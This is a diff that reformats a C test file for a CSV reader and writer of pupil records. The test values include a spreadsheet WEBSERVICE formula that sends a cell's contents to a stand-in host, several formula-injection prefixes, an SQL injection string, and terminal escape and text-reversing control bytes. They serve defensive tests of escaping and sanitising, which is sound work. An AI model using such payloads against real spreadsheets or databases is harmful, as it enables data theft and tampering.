@@ -112,12 +112,15 @@ static void byte_order_mark_is_skipped(void **state)
 static void only_a_leading_mark_is_skipped(void **state)
 {
 	/* A mark inside the data is data, not something to drop. */
-	static const char data[] = "a\n\xEF\xBB\xBF" "b\n";
+	static const char data[] = "a\n\xEF\xBB\xBF"
+				   "b\n";
 	struct csv_reader *r = reader_of(data, sizeof data - 1);
 
 	(void)state;
 	expect_record(r, 1, "a", NULL);
-	expect_record(r, 2, "\xEF\xBB\xBF" "b", NULL);
+	expect_record(r, 2, "\xEF\xBB\xBF"
+			    "b",
+		      NULL);
 	expect_end(r);
 	csv_reader_free(&r);
 }
@@ -378,8 +381,23 @@ static void reader_takes_the_mark_off(void **state)
 static void marked_values_read_back_exactly(void **state)
 {
 	static const char *const values[] = {
-		"=1+2", "-5", "+5", "@x", "'=x", "'plain", "\tled by a tab", "'\t", "''=",
-		"'", "''", "=", "-", "@", "'-", "x'=y", "=WEBSERVICE(\"http://x.example/\"&J3)",
+		"=1+2",
+		"-5",
+		"+5",
+		"@x",
+		"'=x",
+		"'plain",
+		"\tled by a tab",
+		"'\t",
+		"''=",
+		"'",
+		"''",
+		"=",
+		"-",
+		"@",
+		"'-",
+		"x'=y",
+		"=WEBSERVICE(\"http://x.example/\"&J3)",
 	};
 	size_t n = sizeof values / sizeof values[0];
 	char *buf = NULL;
@@ -427,11 +445,23 @@ static void writer_carries_no_control_but_line_feed_and_tab(void **state)
 		{"\x01\x1f", "^A^_"},
 		{"del\x7f", "del^?"},
 		/* C1 controls, as UTF-8 and as bare bytes; a text-reversing mark. */
-		{"c1\xc2\x9b" "2J", "c1\xef\xbf\xbd" "2J"},
+		{"c1\xc2\x9b"
+		 "2J",
+		 "c1\xef\xbf\xbd"
+		 "2J"},
 		{"c1\xc2\x80\xc2\x9f", "c1\xef\xbf\xbd\xef\xbf\xbd"},
-		{"raw\x9b" "2J", "raw\xef\xbf\xbd" "2J"},
-		{"abc\xe2\x80\xae" "def", "abc\xef\xbf\xbd" "def"},
-		{"\xff" "A", "\xef\xbf\xbd" "A"},
+		{"raw\x9b"
+		 "2J",
+		 "raw\xef\xbf\xbd"
+		 "2J"},
+		{"abc\xe2\x80\xae"
+		 "def",
+		 "abc\xef\xbf\xbd"
+		 "def"},
+		{"\xff"
+		 "A",
+		 "\xef\xbf\xbd"
+		 "A"},
 		{"caf\xc3", "caf\xef\xbf\xbd"},
 		/* A control that leads is no formula once shown: not marked. */
 		{"\x1b=1", "^[=1"},
@@ -469,9 +499,22 @@ static void writer_separates_fields_and_ends_records(void **state)
 static void written_records_read_back_the_same(void **state)
 {
 	static const char *const values[] = {
-		"plain", "", "Smith, Jo", "said \"hi\"", "\"", "\"\"", "two\nlines",
-		"tab\tin", " padded ", ",", "Zoë", "Siân", "Łukasz", "李雷",
-		"Robert'); DROP TABLE pupil;--", "end\n",
+		"plain",
+		"",
+		"Smith, Jo",
+		"said \"hi\"",
+		"\"",
+		"\"\"",
+		"two\nlines",
+		"tab\tin",
+		" padded ",
+		",",
+		"Zoë",
+		"Siân",
+		"Łukasz",
+		"李雷",
+		"Robert'); DROP TABLE pupil;--",
+		"end\n",
 	};
 	size_t n = sizeof values / sizeof values[0];
 	char *buf = NULL;
@@ -577,8 +620,10 @@ static void a_streamed_file_reads_as_the_same_bytes_in_memory(void **state)
 	len += (size_t)snprintf(data, cap, "\xEF\xBB\xBFname,note\r\n");
 	for (int i = 0; len + 200 < cap; i++)
 		len += (size_t)snprintf(data + len, cap - len,
-					i % 3 == 0 ? "Pupil %d,\"a \"\"quoted\"\", two\r\nline note\"\r\n"
-					: i % 3 == 1 ? "Pupil %d,plain\n" : "\"Pupil, %d\",\n", i);
+					i % 3 == 0   ? "Pupil %d,\"a \"\"quoted\"\", two\r\nline note\"\r\n"
+					: i % 3 == 1 ? "Pupil %d,plain\n"
+						     : "\"Pupil, %d\",\n",
+					i);
 	in = fmemopen(data, len, "rb");
 	assert_non_null(in);
 	a = csv_reader_new(data, len);
